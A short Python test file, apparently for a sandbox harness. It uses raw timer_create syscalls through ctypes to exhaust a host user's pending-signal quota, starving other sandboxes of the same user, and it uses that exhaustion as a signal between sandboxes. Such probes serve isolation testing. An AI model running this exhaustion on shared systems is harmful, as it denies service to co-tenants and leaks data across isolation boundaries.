"""use up what the host's user may have of pending signals, by timers

Breach: another sandbox of the same user gets fewer. Runs with ctypes.
"""

import ctypes

VERDICT = "AC TLE"
RUNTIME = "peers"
MANY = 200_000


def made(most: int) -> int:
    create = ctypes.CDLL(None, use_errno=True).syscall
    identity = ctypes.c_int()
    place = ctypes.byref(identity)
    for number in range(most):
        if create(222, 1, None, place) < 0:
            return number
    return most


def leave(secret: bytes) -> bytes:
    made(MANY)
    return b""


def find(blob: bytes) -> bytes:
    if made(8) < 8:
        return b"told"
    return b""
